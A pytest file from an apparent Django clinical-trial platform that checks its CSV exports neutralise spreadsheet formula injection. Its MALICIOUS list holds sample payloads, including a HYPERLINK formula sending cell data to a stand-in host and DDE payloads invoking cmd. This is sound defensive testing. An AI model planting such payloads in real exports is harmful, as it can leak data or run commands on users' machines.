"""Every CSV the platform writes neutralises spreadsheet formulas (OWASP CSV injection):
text cells starting with =, +, -, @, tab or carriage return get a leading quote. The
exports are found by scanning the code for CSV writers: only consortium/csv_safe.py may
use the csv module's writers, so a new export cannot bypass the neutralising."""

import ast
import csv
import io
from pathlib import Path

import pytest

from consortium.csv_safe import neutralise, safe_writer
from consortium.models import Role
from tests.conftest import make_member, sign_in
from tests.trials.factories import trial

REPO = Path(__file__).resolve().parents[2]
APPS = ("consortium", "registry", "screening", "trials")
CSV_WRITERS = {"writer", "DictWriter"}

MALICIOUS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", MALICIOUS)
def test_a_formula_start_is_quoted_as_text(value):
    out = io.StringIO()
    safe_writer(out).writerow([value, "plain", 3, -3, 2.5])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + value, "plain", "3", "-3", "2.5"]


def test_harmless_text_and_numbers_are_kept():
    assert neutralise("Glioblastoma, IDH-wildtype") == "Glioblastoma, IDH-wildtype"
    assert neutralise("a=b") == "a=b"
    assert neutralise(-3) == -3
    assert neutralise("") == ""


def _csv_writer_uses(path: Path) -> list[int]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    lines = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in CSV_WRITERS
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            lines.append(node.lineno)
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            if any(alias.name in CSV_WRITERS for alias in node.names):
                lines.append(node.lineno)
    return lines


def test_no_module_but_the_safe_writer_writes_csv():
    offenders = {
        str(path.relative_to(REPO)): lines
        for app in APPS
        for path in (REPO / app).rglob("*.py")
        if "migrations" not in path.parts
        and path != REPO / "consortium" / "csv_safe.py"
        and (lines := _csv_writer_uses(path))
    }
    assert offenders == {}, "Write CSV through consortium.csv_safe.safe_writer"
    # The scan itself finds a writer where there is one.
    assert _csv_writer_uses(REPO / "consortium" / "csv_safe.py")


# --- Every export -------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_trial_funnel_csv_neutralises_the_trial_title(client):
    title = MALICIOUS[0]
    local = trial(title=title)
    local.nct_id = ""  # a local trial: the funnel names it by its title
    local.save()
    sign_in(
        client,
        make_member(Role.COORDINATOR, institutions=("OUS",), with_totp=True, email="c@ous.no"),
    )
    response = client.get(f"/trials/{local.pk}/funnel.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["trial", "measure", "count"]
    assert len(rows) > 1
    assert all(row[0] == "'" + title for row in rows[1:])
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
